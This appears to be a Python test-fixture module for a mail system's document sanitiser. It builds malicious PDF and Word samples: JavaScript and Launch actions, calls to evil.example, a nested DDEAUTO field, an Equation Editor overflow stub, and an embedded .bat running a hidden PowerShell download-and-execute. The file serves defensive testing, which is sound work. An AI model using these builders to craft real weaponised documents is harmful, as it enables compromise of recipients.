    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


def _page_objects(text: str = "Beslutsprotokoll", page_extra: bytes = b"") -> list[bytes]:
    stream = b"BT /F1 11 Tf 50 800 Td " + _pdf_str(text) + b" Tj ET"
    return [
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >>" + page_extra + b" >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]


def pdf_with_catalog(catalog_extra: bytes, extra_objects: list[bytes] = (), page_extra: bytes = b"") -> bytes:
    """Catalog (1), pages (2-5), then ``extra_objects`` numbered from 6."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>"
    return pdf_from_objects([catalog, *_page_objects(page_extra=page_extra), *extra_objects])


def pdf_open_javascript() -> bytes:
    return pdf_with_catalog(b"/OpenAction 6 0 R", [b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hej'\\)) >>"])


def pdf_escaped_javascript() -> bytes:
    """``/J#61vaScript`` and ``/J#53``: name escapes a naive byte search misses."""
    return pdf_with_catalog(b"/OpenAction 6 0 R", [b"<< /Type /Action /S /J#61vaScript /J#53 (this.submitForm\\(\\)) >>"])


def pdf_names_javascript() -> bytes:
    """Document-level JavaScript in the Names tree (runs on open)."""
    return pdf_with_catalog(b"/Names << /JavaScript 6 0 R >>",
                            [b"<< /Names [(init) 7 0 R] >>", b"<< /S /JavaScript /JS (app.launchURL\\('http://evil.example'\\)) >>"])


def pdf_launch() -> bytes:
    return pdf_with_catalog(b"/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>")


def pdf_submit_form() -> bytes:
    return pdf_with_catalog(b"/OpenAction 6 0 R", [b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/s) >> >>"])


def pdf_import_data() -> bytes:
    return pdf_with_catalog(b"/OpenAction 6 0 R", [b"<< /S /ImportData /F (\\\\\\\\evil.example\\\\share\\\\x.fdf) >>"])


def pdf_embedded_file() -> bytes:
    data = b"MZ fake executable"
    return pdf_with_catalog(b"/Names << /EmbeddedFiles << /Names [(bilaga.exe) 6 0 R] >> >>", [
        b"<< /Type /Filespec /F (bilaga.exe) /EF << /F 7 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(data) + data + b"\nendstream",
    ])


def pdf_page_aa() -> bytes:
    """A page's additional action (/AA /O: on open of the page)."""
    return pdf_with_catalog(b"", [b"<< /S /URI /URI (http://evil.example/seen) >>"], page_extra=b" /AA << /O 6 0 R >>")


def pdf_open_uri() -> bytes:
    """An /OpenAction that opens a web address on open: not a plain view."""
    return pdf_with_catalog(b"/OpenAction << /S /URI /URI (http://evil.example/seen) >>")


def pdf_open_view() -> bytes:
    """A plain-view /OpenAction (what LibreOffice and Word write): accepted."""
    return pdf_with_catalog(b"/OpenAction [3 0 R /XYZ null null 0]")


def pdf_link_annotation() -> bytes:
    """A clickable web link on the page: accepted."""
    return pdf_with_catalog(b"", [b"<< /Type /Annot /Subtype /Link /Rect [50 790 200 810] "
                                  b"/A << /S /URI /URI (https://www.example.se/) >> >>"],
                            page_extra=b" /Annots [6 0 R]")


def pdf_objstm_javascript() -> bytes:
    """PDF 1.5 with an object stream (Flate) holding the JavaScript action and an xref
    stream: the dictionary never appears in the file's bytes uncompressed."""
    action = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
    objstm_body = b"6 0 " + action
    objstm_z = zlib.compress(objstm_body)
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>"
    objs = [catalog, *_page_objects()]
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for i, obj in enumerate(objs, start=1):
        offsets[i] = len(out)
        out += b"%d 0 obj\n" % i + obj + b"\nendobj\n"
    offsets[7] = len(out)
    out += (b"7 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(objstm_z)
            + objstm_z + b"\nendstream\nendobj\n")
    xref_off = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for i in range(1, 6):
        rows.append(struct.pack(">BIH", 1, offsets[i], 0))
    rows.append(struct.pack(">BIH", 2, 7, 0))  # object 6 is item 0 of object stream 7
    rows.append(struct.pack(">BIH", 1, offsets[7], 0))
    rows.append(struct.pack(">BIH", 1, xref_off, 0))
    xref_z = zlib.compress(b"".join(rows))
    out += (b"8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
            % len(xref_z) + xref_z + b"\nendstream\nendobj\n")
    out += b"startxref\n%d\n%%%%EOF\n" % xref_off
    return bytes(out)


def hyperlink_in_body(base: bytes, url: str = "https://www.example.se/a?b=1&amp;c=2") -> bytes:
    """An ordinary web link as Word writes it: a w:hyperlink over a hyperlink relationship."""
    data = with_relationship(base, "hyperlink", url)
    return _insert_in_body(data, f'<w:hyperlink xmlns:r="{R_NS}" r:id="rIdExt9"><w:r><w:t>webbplatsen</w:t></w:r>'
                                 "</w:hyperlink>")


def with_alt_chunk(base: bytes, name: str, data: bytes, ctype: str) -> bytes:
    """An altChunk: content Word imports into the body when it opens the document."""
    data2 = _add_part(base, f"word/{name}", "", ctype, _REL_BASE + "aFChunk", rid="rIdAlt1")
    data2 = rezip(data2, replace={f"word/{name}": data})
    doc = read_part(data2, "word/document.xml").decode()
    i = doc.rindex("<w:sectPr")
    doc = doc[:i] + f'<w:altChunk xmlns:r="{R_NS}" r:id="rIdAlt1"/>' + doc[i:]
    return rezip(data2, replace={"word/document.xml": doc.encode()})


def alt_chunk_rtf(base: bytes, fldinst: str = '{\\rtlch\\fcs1 INCLUDEPICTURE "http://evil.example/p.png" \\\\d}') -> bytes:
    rtf = ("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Calibri;}}\\pard Se bild: "
           "{\\field{\\*\\fldinst " + fldinst + "}{\\fldrslt bild}}\\par}").encode()
    return with_alt_chunk(base, "afchunk.rtf", rtf, "application/rtf")


def alt_chunk_rtf_objupdate(base: bytes) -> bytes:
    rtf = (b"{\\rtf1\\ansi{\\object\\objautlink\\objupdate\\rsltpict\\objw100\\objh100"
           b"{\\*\\objclass Word.Document.8}{\\*\\objdata 0105000002000000}}}")
    return with_alt_chunk(base, "afchunk.rtf", rtf, "application/rtf")


def alt_chunk_docx(base: bytes, inner: bytes) -> bytes:
    return with_alt_chunk(base, "afchunk.docx", inner, _CT_WORD + "document.main+xml")


def mail_merge_settings(base: bytes, connect: str = "Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\evil.example\\s\\db.accdb") -> bytes:
    """settings.xml of a mail-merge main document: Word runs the query when it opens it."""
    settings = read_part(base, "word/settings.xml").decode()
    i = settings.index(">", settings.index("<w:settings")) + 1
    merge = (f'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/>'
             f'<w:connectString w:val="{connect}"/><w:query w:val="SELECT * FROM `Blad1$`"/></w:mailMerge>')
    # mailMerge comes after a few elements in CT_Settings order; Word accepts it near the start too
    settings = settings[:i] + merge + settings[i:]
    return rezip(base, replace={"word/settings.xml": settings.encode()})


# ------------------------------------------------------------ rebuilt, never filtered (CDR)
#
# Files the deny-list checks once let through or never looked at. The rebuild
# (kcg_mail.documents.rebuild) must leave nothing of them in what members get.

_V_NS = "urn:schemas-microsoft-com:vml"
_O_NS = "urn:schemas-microsoft-com:office:office"


def nested_field_ddeauto(base: bytes) -> bytes:
    """``{ {QUOTE "DDE"}AUTO c:\\windows\\system32\\cmd.exe "/k calc" }``: the field's name is the
    result of another field, so no instruction text ever spells DDE or DDEAUTO."""
    inner = complex_field_runs(' QUOTE "DD" "E" ', result="DDE")
    runs = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'{inner}<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe '
            '"/k calc" </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Kursen</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    return _insert_in_body(base, runs)


def _ole10native(name: str, payload: bytes) -> bytes:
    """The ``\\x01Ole10Native`` stream of an OLE Packager object (a file wrapped as an icon)."""
    label = name.encode("latin-1") + b"\0"
    path = b"C:\\Users\\vard\\Desktop\\" + label
    body = (struct.pack("<H", 2) + label + path + struct.pack("<I", 0x00030000)
            + struct.pack("<I", len(path)) + path + struct.pack("<I", len(payload)) + payload)
    return struct.pack("<I", len(body)) + body


def _embed_ole(base: bytes, ole: bytes, prog_id: str, *, icon: bool) -> bytes:
    """An embedded OLE object as Word writes it: word/embeddings/oleObject1.bin with its
    relationship and content type, and a w:object in a paragraph of the body."""
    data = _add_part(base, "word/embeddings/oleObject1.bin", "", "application/vnd.openxmlformats-officedocument.oleObject",
                     _REL_BASE + "oleObject", rid="rIdOle1")
    data = rezip(data, replace={"word/embeddings/oleObject1.bin": ole})
    aspect = "Icon" if icon else "Content"
    obj = (f'<w:r><w:object xmlns:v="{_V_NS}" xmlns:o="{_O_NS}" xmlns:r="{R_NS}" w:dxaOrig="1531" w:dyaOrig="811">'
           '<v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:76.5pt;height:40.5pt" o:ole=""/>'
           f'<o:OLEObject Type="Embed" ProgID="{prog_id}" ShapeID="_x0000_i1025" DrawAspect="{aspect}" '
           'ObjectID="_1742301234" r:id="rIdOle1"/></w:object></w:r>')
    return _insert_in_body(data, '<w:r><w:t>Bilaga: </w:t></w:r>' + obj)


def packager_ole_bat(base: bytes) -> bytes:
    """A Packager object holding a .bat file: one double-click runs it."""
    bat = b"@echo off\r\npowershell -w hidden -c \"iwr http://evil.example/p.ps1 | iex\"\r\n"
    ole = ole_file({"\x01Ole10Native": _ole10native("protokoll.bat", bat)})
    return _embed_ole(base, ole, "Package", icon=True)


def equation_editor_ole(base: bytes) -> bytes:
    """An Equation Editor 3.0 object (``Equation.3``, the EQNEDT32 overflow family): an
    MTEF record with an overlong font name, which the old editor copied onto its stack."""
    mtef = struct.pack("<HIHIIIH", 0x1C, 0x00020000, 0, 0, 0, 0, 0) + b"\x03\x01\x01\x03\x0a\x0a\x08" + \
        b"cmd.exe /c calc " + b"A" * 40 + b"\x00"
    ole = ole_file({"Equation Native": mtef})
    return _embed_ole(base, ole, "Equation.3", icon=False)


def alt_chunk_html_charref(base: bytes) -> bytes:
    """An HTML altChunk whose picture address is written with character references."""
    html = (b'<html><body><p>Bild:</p><img src="&#x68;&#116;tp://evil.example/p.png" width="1" height="1">'
            b"</body></html>")
    return with_alt_chunk(base, "afchunk.htm", html, "application/xhtml+xml")


def alt_chunk_html_utf16(base: bytes) -> bytes:
    """An HTML altChunk in UTF-16 (with a byte-order mark): a stylesheet fetched from outside."""
    html = '<html><head><link rel="stylesheet" href="http://evil.example/s.css"></head><body>x</body></html>'
    return with_alt_chunk(base, "afchunk.htm", "\ufeff".encode("utf-16-le") + html.encode("utf-16-le"), "text/html")


def alt_chunk_rtf_escaped(base: bytes) -> bytes:
    """An RTF altChunk whose INCLUDEPICTURE address is written with RTF hex and Unicode escapes."""
    return alt_chunk_rtf(base, "{INCLUDEPICTURE \"\\'68\\u116?tp://evil.example/p.png\" \\\\d}")


def pdf_xfa() -> bytes:
    """An XFA form (scripts in the XML form template), with an AcroForm around it."""
    xfa = (b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
           b'<script contentType="application/x-javascript">app.launchURL("http://evil.example/x")</script>'
           b"</event></subform></template></xdp:xdp>")
    return pdf_with_catalog(b"/AcroForm << /Fields [] /XFA 6 0 R /NeedsRendering true >>",
                            [b"<< /Length %d >>\nstream\n" % len(xfa) + xfa + b"\nendstream"])


def pdf_incremental_update() -> bytes:
    """A clean PDF with an incremental update appended: the update replaces the catalog by
    one with an /OpenAction running JavaScript (the revision a viewer shows)."""
    base = pdf_with_catalog(b"")
    prev = int(base.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    out = bytearray(base)
    offsets = {}
    offsets[1] = len(out)
    out += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>\nendobj\n"
    offsets[6] = len(out)
    out += b"6 0 obj\n<< /Type /Action /S /JavaScript /JS (app.launchURL\\('http://evil.example/u'\\)) >>\nendobj\n"
    xref = len(out)
    out += b"xref\n1 1\n%010d 00000 n \n6 1\n%010d 00000 n \n" % (offsets[1], offsets[6])
    out += b"trailer\n<< /Size 7 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (prev, xref)
    return bytes(out)


def pdf_launch_link() -> bytes:
    """A link annotation whose action launches a program."""
    return pdf_with_catalog(b"", [b"<< /Type /Annot /Subtype /Link /Rect [50 790 200 810] "
                                  b"/A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>"],
                            page_extra=b" /Annots [6 0 R]")


def pdf_file_attachment_annotation() -> bytes:
    """A file attached to the page as an annotation (a paper-clip icon)."""
    data = b"MZ fake executable"
    return pdf_with_catalog(b"", [
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [50 700 70 720] /FS 7 0 R >>",
        b"<< /Type /Filespec /F (bilaga.exe) /EF << /F 8 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(data) + data + b"\nendstream",
    ], page_extra=b" /Annots [6 0 R]")


def pdf_action_in_font() -> bytes:
    """JavaScript hidden where a rebuild must copy from: an /AA in the page's font dictionary."""
    objs = _page_objects()
    objs[3] = (b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding "
               b"/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >> >>")
    return pdf_from_objects([b"<< /Type /Catalog /Pages 2 0 R >>", *objs])
